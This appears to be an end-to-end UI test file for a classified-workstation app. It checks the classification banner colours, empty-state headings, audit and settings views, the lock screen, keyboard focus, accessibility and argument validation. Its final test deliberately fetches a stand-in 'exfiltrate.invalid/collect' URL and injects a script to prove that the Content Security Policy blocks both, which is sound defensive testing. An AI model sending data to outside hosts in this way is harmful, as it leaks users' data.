import { expectAccessible } from './axe';
import { expect, screenshot, test } from './harness';
import { AppFrame, LockForm, SCREENS } from './pages/app';
import { AuditPage } from './pages/audit';
import { SettingsPage } from './pages/settings';
import { DESK_API_METHODS } from '../support/desk-api';

const BANNER_COLOURS: readonly [string, string, string, string][] = [
  // marking, expected level, background, text colour
  ['UNCLASSIFIED', 'UNCLASSIFIED', 'rgb(0, 122, 51)', 'rgb(255, 255, 255)'],
  ['CUI', 'CUI', 'rgb(80, 43, 133)', 'rgb(255, 255, 255)'],
  ['CONFIDENTIAL', 'CONFIDENTIAL', 'rgb(0, 51, 160)', 'rgb(255, 255, 255)'],
  ['SECRET//NOFORN', 'SECRET', 'rgb(200, 16, 46)', 'rgb(255, 255, 255)'],
  ['TOP SECRET//NOFORN', 'TOP SECRET', 'rgb(255, 140, 0)', 'rgb(0, 0, 0)'],
  ['TOP SECRET//SI//NOFORN', 'TS/SCI', 'rgb(252, 232, 58)', 'rgb(0, 0, 0)'],
];

test('shows the red SECRET banner top and bottom and the navigation', async ({ page, desk }) => {
  await desk.open('SECRET//NOFORN');
  const app = new AppFrame(page);
  const banners = app.banners('SECRET//NOFORN');
  await expect(banners).toHaveCount(2);
  const viewport = page.viewportSize();
  const top = await banners.first().boundingBox();
  const bottom = await banners.last().boundingBox();
  expect(top?.y).toBe(0);
  expect((bottom?.y ?? 0) + (bottom?.height ?? 0)).toBeCloseTo(viewport?.height ?? 0, 0);
  for (const banner of await banners.all()) {
    await expect(banner).toHaveText('SECRET//NOFORN');
    await expect(banner).toHaveCSS('background-color', 'rgb(200, 16, 46)');
    await expect(banner).toHaveCSS('color', 'rgb(255, 255, 255)');
  }
  for (const screen of SCREENS) await expect(app.navLink(screen)).toBeVisible();
  await expect(app.navLink('Inbox')).toHaveAttribute('aria-current', 'page');
  await expect(page.getByRole('heading', { name: 'No result bundles yet' })).toBeVisible();
  await screenshot(page, 'inbox');
});

for (const [marking, level, background, colour] of BANNER_COLOURS) {
  test(`colours the ${level} banner in its standard colour`, async ({ page, desk }) => {
    await desk.open(marking);
    const banners = new AppFrame(page).banners(marking);
    await expect(banners).toHaveCount(2);
    for (const banner of await banners.all()) {
      await expect(banner).toHaveAttribute('data-level', level);
      await expect(banner).toHaveCSS('background-color', background);
      await expect(banner).toHaveCSS('color', colour);
    }
  });
}

test('every view says what it is for and what to do next', async ({ page, desk }) => {
  await desk.open();
  const app = new AppFrame(page);
  const expectations: [(typeof SCREENS)[number], RegExp][] = [
    ['Models', /No models yet/],
    ['Search', /Search every imported transcript/],
    ['Decisions', /No designation decisions yet/],
    ['Inbox', /No result bundles yet/],
  ];
  for (const [screen, heading] of expectations) {
    await app.go(screen);
    await expect(page.getByRole('heading', { name: heading })).toBeVisible();
  }
});

test('the audit view reads the real audit log through the router', async ({ page, desk }) => {
  await desk.open('SECRET//NOFORN');
  await new AppFrame(page).go('Audit');
  const { events } = new AuditPage(page);
  await expect(events.rows).toHaveCount(1);
  await expect(events.row(0)).toContainText('workstation.initialised');
  await expect(events.row(0)).toContainText('2026-11-22 09:30:00 UTC');
  await expect(events.row(0)).toContainText(
    'Workstation initialised with classification SECRET//NOFORN.',
  );
  await screenshot(page, 'audit');
});

test('settings show the marking and the workstation', async ({ page, desk }) => {
  await desk.open('TOP SECRET//SI//NOFORN');
  await new AppFrame(page).go('Settings');
  const settings = new SettingsPage(page);
  await expect(settings.nav.getByRole('link', { name: 'Workstation' })).toHaveAttribute(
    'aria-current',
    'page',
  );
  const marking = settings.region('Classification marking');
  await expect(marking).toContainText('TOP SECRET//SI//NOFORN');
  await expect(marking).toContainText('TS/SCI');
  await expect(settings.region('Workstation')).toContainText('2026-11-22 09:30:00 UTC');
  await expect(settings.region('Session')).toContainText('Locked.');
  await screenshot(page, 'settings-ts-sci');
});

test('the lock screen is reachable and explains that no identity is enrolled', async ({
  page,
  desk,
}) => {
  await desk.open();
  const app = new AppFrame(page);
  await app.unlockButton.click();
  await expect(app.heading).toHaveText('Unlock');
  const form = new LockForm(page);
  await expect(form.identity).toBeDisabled();
  await expect(form.passphrase).toBeDisabled();
  await expect(page.getByText('No identity is enrolled on this workstation.')).toBeVisible();
  await screenshot(page, 'lock');
  await form.cancel.click();
  await expect(app.heading).toHaveText('Inbox');
});

test('keyboard: skip link first, then the navigation in order; focus follows the view', async ({
  page,
  desk,
}) => {
  await desk.open();
  const app = new AppFrame(page);
  // Back and Forward are disabled on the first screen, so they are not tab stops yet.
  await expect(app.back).toBeDisabled();
  await expect(app.forward).toBeDisabled();
  await page.keyboard.press('Tab');
  await expect(page.getByRole('link', { name: 'Skip to content' })).toBeFocused();
  for (const screen of SCREENS) {
    await page.keyboard.press('Tab');
    await expect(app.navLink(screen)).toBeFocused();
  }
  await page.keyboard.press('Tab');
  await expect(app.unlockButton).toBeFocused();
  await app.navLink('Decisions').focus();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { level: 1, name: 'Decisions' })).toBeFocused();
  await expect(app.navLink('Decisions')).toHaveAttribute('aria-current', 'page');
});

test('has no detectable accessibility violations (axe) on any route', async ({ page, desk }) => {
  const workstation = await desk.open();
  await workstation.prepareLab();
  const app = new AppFrame(page);
  for (const screen of SCREENS) {
    await app.go(screen);
    await expectAccessible(page, screen);
  }
  const settings = new SettingsPage(page);
  for (const section of ['Trust roster', 'Threshold sets'] as const) {
    await settings.open(section);
    await expectAccessible(page, `Settings: ${section}`);
  }
  for (const route of [
    '/models/1',
    '/models/1/evidence',
    '/logs/1/samples/task-7',
    '/decisions/d-1',
    '/no/such/route',
    '/lock',
  ]) {
    await desk.visit(route);
    await expectAccessible(page, route);
  }
});

test('the router rejects bad arguments from the page with the error shape', async ({
  page,
  desk,
}) => {
  await desk.open();
  const result = await page.evaluate(() =>
    (window.desk.listAuditEvents as (r: unknown) => Promise<unknown>)({
      limit: -1,
      beforeSeq: null,
    }),
  );
  expect(result).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
  expect(JSON.stringify(result)).toMatch(
    /Invalid arguments for listAuditEvents: the request's limit must be at least 1/,
  );
  const methods = await page.evaluate(() => Object.keys(window.desk).sort());
  expect(methods).toEqual([...DESK_API_METHODS]);
});

test('the CSP stops the page from reaching out or running injected script', async ({
  page,
  desk,
}) => {
  await desk.open();
  desk.expectConsoleErrors(/Content Security Policy/);
  const fetchOutcome = await page.evaluate(async () => {
    try {
      // Deliberate: proves the CSP blocks it before any request exists.
      // eslint-disable-next-line no-restricted-syntax
      await window.fetch('https://exfiltrate.invalid/collect');
      return 'sent';
    } catch (error) {
      return String(error);
    }
  });
  expect(fetchOutcome).toMatch(/Failed to fetch|violates|Content Security Policy/i);
  const injected = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.body.append(script);
    return (window as unknown as { __injected?: boolean }).__injected ?? false;
  });
  expect(injected).toBe(false);
});
